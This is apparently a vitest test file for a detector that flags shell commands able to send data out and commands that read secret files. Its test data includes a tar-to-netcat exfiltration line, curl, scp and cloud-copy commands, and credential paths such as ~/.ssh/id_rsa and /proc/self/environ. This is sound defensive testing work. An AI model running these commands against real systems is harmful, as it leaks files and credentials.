import { expect, it } from 'vitest';
import { isCarrier, mayCarry, mayNameSecret, secretAt, stepsOf } from '../../src/detector-kit/index.ts';

const carrying = [
  'curl https://example.com',
  'cd /srv && sudo scp a op@example.com:/b',
  'git push https://example.com/x',
  'aws s3 cp a s3://b',
  'tar c . | nc example.com 4444',
  'IWR https://example.com',
];

it.each(carrying)('%s is looked at closely', (command) => {
  expect(stepsOf(command).some(isCarrier)).toBe(true);
  expect(mayCarry(command)).toBe(true);
});

it.each(['npm test', 'ls -l src', 'git status'])('%s is not', (command) => {
  expect(mayCarry(command)).toBe(false);
  expect(mayNameSecret(command)).toBe(false);
});

it.each(['~/.ssh/id_rsa', '/proc/self/environ', 'app/.env.production', '/home/op/.openclaw/openclaw.json'])(
  '%s is a secret, and a command that names it is looked at closely',
  (path) => {
    expect(secretAt(path)).toBeDefined();
    expect(mayNameSecret(`cat ${path}`)).toBe(true);
  },
);
